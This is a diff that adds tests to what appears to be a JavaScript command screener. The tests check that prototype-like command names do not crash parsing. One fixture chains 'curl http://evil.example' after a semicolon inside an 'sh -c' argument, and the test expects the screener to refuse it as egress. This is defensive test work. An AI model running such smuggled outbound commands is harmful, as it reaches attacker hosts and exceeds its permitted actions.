@@ -651,6 +651,15 @@ describe("screen: positional parameters and default values are expanded (a scrip
   }
 });
 
+describe("screen: a command named like a JavaScript object's property", () => {
+  for (const name of ["constructor", "__proto__", "toString", "hasOwnProperty"]) {
+    it(`reads past ${name} -x without throwing`, () => {
+      refused({ command: "sh", args: ["-c", `${name} -x a; curl http://evil.example`] }, "egress");
+      passes({ command: "sh", args: ["-c", `${name} -x a; exec node s.js`] });
+    });
+  }
+});
+
 describe("screen: every shell that runs -c is a shell", () => {
   for (
     const shell of [
